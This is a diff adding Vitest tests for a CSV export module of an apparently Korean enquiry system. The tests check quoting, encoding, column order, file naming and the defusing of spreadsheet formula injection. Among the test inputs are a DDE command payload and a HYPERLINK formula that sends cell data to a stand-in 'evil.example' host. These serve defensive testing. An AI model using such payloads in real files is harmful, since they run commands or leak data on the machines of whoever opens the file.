@@ -1,0 +1,191 @@
+import { describe, expect, it } from 'vitest';
+import { CSV_BOM, CSV_COLUMNS, csvCell, csvHeader, csvLine, enquiryCsvLine, exportFileName } from '../../shared/csv';
+import type { EnquiryRecord } from '../../shared/enquiry';
+
+/** A minimal RFC 4180 reader, to check that what we write reads back as the same cells. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i += 1) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i += 1;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i += 1;
+    } else cell += ch;
+  }
+  if (cell !== '' || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
+  return rows;
+}
+
+const record: EnquiryRecord = {
+  POST_INDEX: 12,
+  NAME: '김민수',
+  CONTACT_NUMBER: '+82 10-1234-5678',
+  EMAIL: 'minsu@example.com',
+  LANG_PREFERENCE: 'Russian',
+  MEDICAL_SECTION: '호텔예약',
+  DETAIL_SECTION: '',
+  DATE: '2026-11-23 00:30',
+  REGISTRATION_DATE: '2026-12-01',
+  REGISTRATION_END: '2026-12-05',
+  HOTEL: 'Гостиница «Сеул», 3 этаж',
+  NUMBER_PEOPLE: 3,
+  ROOM: 2,
+  DESTINATION: '',
+  CONTEXT: 'not exported',
+  RECEIVED_AT: '2026-11-22T15:30:00.000Z',
+  MAIL_STATUS: 'sent',
+  SPAM: false,
+  CONSENT_VERSION: '2026-11-01',
+  CONSENT_AT: '2026-11-22T15:30:00.000Z',
+  CONSENT_HEALTH: false,
+};
+
+describe('csvCell', () => {
+  it('quotes every cell', () => {
+    expect(csvCell('plain')).toBe('"plain"');
+    expect(csvCell('')).toBe('""');
+  });
+
+  it('doubles quotes inside a cell', () => {
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('"')).toBe('""""');
+  });
+
+  it('keeps commas and newlines inside the quotes', () => {
+    expect(csvCell('a, b')).toBe('"a, b"');
+    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
+    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
+    expect(parseCsv(csvLine(['a, b', 'x\r\ny', 'q"q']))).toEqual([['a, b', 'x\r\ny', 'q"q']]);
+  });
+
+  it.each(['=1+1', '+1', '-1', '@SUM(A1:A2)', '\tcmd', '\rcmd', '=cmd|" /C calc"!A0'])('prefixes %j with an apostrophe', (text) => {
+    const cell = csvCell(text);
+    expect(cell.startsWith(`"'`)).toBe(true);
+    expect(parseCsv(cell)[0]?.[0]).toBe(`'${text}`);
+  });
+
+  it('makes a =HYPERLINK name harmless', () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const cell = csvCell(name);
+    expect(cell).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    const [read] = parseCsv(cell)[0] ?? [];
+    expect(read?.startsWith('=')).toBe(false);
+    expect(read).toBe(`'${name}`);
+  });
+
+  it('leaves numbers untouched, negative ones included', () => {
+    expect(csvCell(3)).toBe('"3"');
+    expect(csvCell(-5)).toBe('"-5"');
+    expect(csvCell(0)).toBe('"0"');
+  });
+
+  it('leaves text that only contains formula characters later on alone', () => {
+    expect(csvCell('a=b')).toBe('"a=b"');
+    expect(csvCell('john@example.com')).toBe('"john@example.com"');
+    expect(csvCell('2026-12-01')).toBe('"2026-12-01"');
+  });
+});
+
+describe('csvHeader and csvLine', () => {
+  it('lists the eleven columns in order', () => {
+    expect([...CSV_COLUMNS]).toEqual([
+      'name',
+      'phone',
+      'email',
+      'language',
+      'section',
+      'detail_section',
+      'register_day',
+      'register_END_day',
+      'hotel',
+      'count',
+      'room_N',
+    ]);
+  });
+
+  it('starts with the UTF-8 byte order mark and ends with CRLF', () => {
+    const header = csvHeader();
+    expect(CSV_BOM).toBe('\uFEFF');
+    expect(header.startsWith('\uFEFF')).toBe(true);
+    expect(Buffer.from(header, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    expect(header.endsWith('\r\n')).toBe(true);
+    expect(header.slice(1)).toBe(
+      '"name","phone","email","language","section","detail_section","register_day","register_END_day","hotel","count","room_N"\r\n',
+    );
+  });
+
+  it('ends every line with CRLF and has no bare LF', () => {
+    const line = csvLine(['a', 1]);
+    expect(line).toBe('"a","1"\r\n');
+    expect(line.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+  });
+});
+
+describe('enquiryCsvLine', () => {
+  it('writes the record in column order, with Korean and Cyrillic text as is', () => {
+    const line = enquiryCsvLine(record);
+    expect(line.endsWith('\r\n')).toBe(true);
+    expect(parseCsv(line)).toEqual([
+      [
+        '김민수',
+        "'+82 10-1234-5678",
+        'minsu@example.com',
+        'Russian',
+        '호텔예약',
+        '',
+        '2026-12-01',
+        '2026-12-05',
+        'Гостиница «Сеул», 3 этаж',
+        '3',
+        '2',
+      ],
+    ]);
+  });
+
+  it('keeps a header and rows together as a file of 11-cell rows that survives UTF-8 encoding', () => {
+    const file = csvHeader() + enquiryCsvLine(record) + enquiryCsvLine({ ...record, NAME: '=1+2', HOTEL: 'Line 1\nLine 2' });
+    const decoded = Buffer.from(file, 'utf8').toString('utf8');
+    const rows = parseCsv(decoded.slice(1));
+    expect(rows).toHaveLength(3);
+    for (const row of rows) expect(row).toHaveLength(11);
+    expect(rows[2]?.[0]).toBe("'=1+2");
+    expect(rows[2]?.[8]).toBe('Line 1\nLine 2');
+  });
+
+  it('does not export the message or bookkeeping fields', () => {
+    const line = enquiryCsvLine(record);
+    expect(line).not.toContain('not exported');
+    expect(line).not.toContain('2026-11-22T15:30');
+  });
+});
+
+describe('exportFileName', () => {
+  it('is data_<YYYYMMDDHHmm>.csv in Korea time', () => {
+    expect(exportFileName(Date.parse('2026-11-22T15:30:00Z'))).toBe('data_202611230030.csv');
+    expect(exportFileName(new Date('2026-11-22T14:59:59Z'))).toBe('data_202611222359.csv');
+    expect(exportFileName(Date.parse('2026-12-31T15:00:00Z'))).toBe('data_202701010000.csv');
+  });
+
+  it('contains only safe characters for a Content-Disposition header', () => {
+    expect(exportFileName(Date.now())).toMatch(/^data_\d{12}\.csv$/);
+  });
+});
